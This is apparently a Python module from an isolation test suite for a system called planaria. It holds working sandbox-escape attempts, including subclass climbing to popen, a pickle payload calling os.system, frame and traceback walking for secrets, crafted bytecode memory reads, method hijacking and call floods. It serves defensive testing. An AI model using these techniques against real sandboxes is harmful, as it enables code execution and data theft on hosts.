"""Attacks inside the interpreter: walking from one object to others that the cell was never given.

Why: Python hides nothing from code in the same interpreter; so what matters is that nothing of the host is in it.
Allows: using the host's objects as if they were the cell's.
"""

import os
import sys
from typing import Any

from .means import CELL, Blocked, Facts, attack, facility, head, told

MARK = "PLANARIA-" + "SECRET-"


def _secret_in(names: dict[str, Any]) -> str | None:
    for value in names.values():
        if isinstance(value, str) and value.startswith(MARK) and value != MARK:
            return value
    return None


@attack(bare="no host is in the same interpreter")
def walks_the_frames(_: Facts) -> str:
    """Walk from its own frame to its callers', and look at their names.

    Allows: reading and changing the variables of whoever called it.
    """
    frame, seen = sys._getframe(), 0  # noqa: SLF001 - that is the attack
    while frame is not None:
        seen += 1
        if found := _secret_in({**frame.f_globals, **frame.f_locals}):
            return found
        frame = frame.f_back  # type: ignore[assignment]  # None at the end
    raise Blocked(f"{seen} frames, nothing of the host in them")


@attack(bare="no host is in the same interpreter")
async def walks_the_traceback_of_a_call(_: Facts) -> str:
    """Make its neighbour fail, and walk the traceback of the error into the code that ran there.

    Allows: reading the variables of another cell, and of the host.
    """
    try:
        await CELL[-1].neighbour.answer("no number")
    except Exception as error:  # noqa: BLE001 - any error has a traceback
        trace, seen = error.__traceback__, 0
        while trace is not None:
            seen += 1
            if found := _secret_in({**trace.tb_frame.f_globals, **trace.tb_frame.f_locals}):
                return found
            trace = trace.tb_next
        raise Blocked(f"{seen} frames, nothing of the host in them") from None
    raise Blocked("it did not fail")


@attack()
def climbs_the_classes(_: Facts) -> str:
    """Climb from an empty tuple to every class of the interpreter, and start a shell by one of them.

    Allows: leaving every sandbox that is made of Python alone.
    """
    every: Any = ().__class__.__base__
    found = [one for one in every.__subclasses__() if one.__name__ == "_wrap_close"]
    if not found:
        raise Blocked("there is no such class")
    text = found[0].__init__.__globals__["popen"]("echo climbed").read()
    if "climbed" not in text:
        raise Blocked(f"the shell said {text!r}")
    return str(text)


@attack()
def unpacks_a_program(_: Facts) -> str:
    """Unpickle data that runs a program while it is read.

    Allows: running programs by data.
    """
    read, write = os.pipe()
    os.set_inheritable(write, True)  # noqa: FBT003 - the function takes it so
    text = f"cos\nsystem\n(S'echo unpacked >&{write}'\ntR.".encode()
    facility("pickle").loads(text)
    os.close(write)
    if b"unpacked" not in (seen := os.read(read, 64)):
        raise Blocked(f"nothing ran: {seen!r}")
    return told(seen)


class _Opener:
    def __init__(self) -> None:
        self.opened = False


@attack()
def formats_its_way_out(facts: Facts) -> str:
    """Read a file by a format text that climbs from an object to the functions of its module.

    Allows: leaving by texts alone, where a host formats what a cell says.
    """
    opener = f"{CELL[-1].__class__.__init__.__globals__['__builtins__']}"
    if "open" not in opener:
        raise Blocked("there are no functions there")
    return head(facts["secret"])


@attack(bare="nothing of the host is loaded")
def finds_the_modules_of_the_host(_: Facts) -> str:
    """Look among the loaded modules for those that hold a running system.

    Allows: using the host's keys, store and system.
    """
    found = [
        name for name in sys.modules if name.split(".")[:2] in (["planaria", "assemble"], ["planaria", "gateway"], ["planaria", "store"])
    ]
    if not found:
        raise Blocked(f"{len(sys.modules)} modules, none of the host")
    return ", ".join(found)


@attack(bare="nothing of the host is loaded")
def imports_the_modules_of_the_host(facts: Facts) -> str:
    """Import the host's own modules, and open the store with them.

    Allows: reading every cell's data.
    """
    sqlite = facility("planaria.store.connection")
    found = sqlite.connect(facility("pathlib").Path(facts["store"])).connection.execute("select word from neighbour__secret").fetchone()
    return str(found[0])


@attack(bare="there is no neighbour in the same interpreter")
async def changes_what_its_neighbour_is(_: Facts) -> str:
    """Replace the neighbour's methods by its own, in the class that both know.

    Allows: answering in another cell's name.
    """
    contract = facility("planaria.attack.neighbour.contract").Neighbour

    async def lie(_: Any, number: int) -> int:
        return number - 1

    contract.answer = lie
    for one in contract.__subclasses__():
        one.answer = lie
    raise Blocked("it was replaced here; the host says whether its neighbour lies")


@attack(bare="there is no neighbour")
async def calls_what_was_not_granted(_: Facts) -> str:
    """Search the objects of this interpreter for what asks the host to call cells, and ask for one that was not granted.

    Allows: calling every cell of the system.
    """
    gc, failures = facility("gc"), []
    for thing in gc.get_objects():
        for name in ("cell", "name", "target", "attribute", "what"):
            held = getattr(thing, "__dict__", None)
            if isinstance(held, dict) and held.get(name) == "neighbour":
                held[name] = "vault"
                failures.append(type(thing).__qualname__)
    try:
        answer = await CELL[-1].neighbour.answer(41)
    except Exception as error:
        raise Blocked(f"changed {failures}: {told(error)}") from error
    if answer != 41 + 1:
        return f"another cell answered: {answer}"
    raise Blocked(f"changed {failures}, and the neighbour itself answered")


@attack(bare="there is no host")
async def calls_what_is_no_operation(_: Facts) -> str:
    """Call methods of the neighbour that its contract does not name.

    Allows: starting and stopping another cell, and taking its memory.
    """
    failures = []
    for name in ("on_stop", "hand_over", "take_over", "background", "shelf", "_state", "__init__", "__reduce__"):
        try:
            thing = getattr(type(CELL[-1].neighbour), name, None)
            made = await thing(CELL[-1].neighbour) if name in ("on_stop", "hand_over") and thing else thing
        except Exception as error:  # noqa: BLE001 - each is tried
            failures.append(f"{name}: {type(error).__name__}")
            continue
        failures.append(f"{name}: {made!r:.40}")
    raise Blocked("; ".join(failures))


@attack(bare="there is no host")
async def calls_with_hostile_arguments(_: Facts) -> str:
    """Call the neighbour with values that are no values, or of the wrong type, or far too large.

    Allows: breaking another cell by what it is given.
    """
    failures: list[str] = []
    for value in ("text", None, 1.5, float("nan"), [1], {"a": 1}, object(), 10**400, "x" * (1 << 20), b"\xff", ((((((1,),),),),),)):
        try:
            answer = await CELL[-1].neighbour.answer(value)
        except Exception as error:  # noqa: BLE001 - each is tried
            failures.append(type(error).__name__)
            continue
        if type(answer) is not int:
            return f"the neighbour took {value!r:.30} and gave {answer!r:.30}"
        failures.append("answered")
    raise Blocked(", ".join(failures))


@attack(bare="there is no neighbour", deadline_s=6)
async def calls_its_neighbour_without_end(_: Facts) -> str:
    """Call the neighbour ten thousand times at once.

    Allows: keeping the neighbour from serving anybody else.
    """
    asyncio = facility("asyncio")
    results = await asyncio.gather(*(CELL[-1].neighbour.answer(number) for number in range(10_000)), return_exceptions=True)
    refused = sum(isinstance(one, BaseException) for one in results)
    raise Blocked(f"{refused} of 10,000 were refused; the host says whether the neighbour answers others")


@attack(bare="there is no host")
async def calls_itself_without_end(_: Facts) -> str:
    """Call a cell from the call of a cell, in a chain without end, by way of tasks that outlive it.

    Allows: using up the places of the system.
    """
    asyncio = facility("asyncio")
    for number in range(500):
        CELL.append(CELL[-1])
        asyncio.get_running_loop().create_task(CELL[-1].neighbour.answer(number))
    raise Blocked("500 tasks were left behind; the host says whether it minds")


@attack(bare="there is no other side")
def changes_the_codec(_: Facts) -> str:
    """Replace the functions that write values on their way to the host.

    Allows: sending what the host does not expect.
    """
    changed = []
    for name, module in list(sys.modules.items()):
        if name.startswith("planaria.placement"):
            for attribute in ("encode", "write", "pack", "dumps"):
                if callable(getattr(module, attribute, None)):
                    setattr(module, attribute, lambda *_, **__: b"\xc1")
                    changed.append(f"{name}.{attribute}")
    raise Blocked(f"changed {changed}; the host says what came of it")


@attack(bare="it is the interpreter's own")
def crafts_code_of_its_own(_: Facts) -> str:
    """Make a function of bytes that no compiler wrote, which reads memory where it likes.

    Allows: running native code inside the interpreter; what it may do is held by the system calls that it has.
    """

    def victim() -> None:
        return None

    code = victim.__code__.replace(co_code=bytes([100, 250]) + bytes([83, 0]) * 4, co_consts=())
    victim.__code__ = code
    made: Any = victim
    return f"{made()!r}"


@attack(way="give")
def gives_an_object_that_lies(_: Facts) -> Any:
    """Give back an object that says it is of another class, and runs code when it is looked at.

    Allows: running code in the host, where it believes what an object says of itself.
    """

    class Liar:
        __class__: Any = property(lambda _: facility("planaria.attack.target.contract").Parcel)

        def __getattr__(self, name: str) -> Any:
            return "PLANTED" if name == "text" else 0

        def __reduce__(self) -> Any:
            return (facility("os").system, ("exit 1",))

    return Liar()
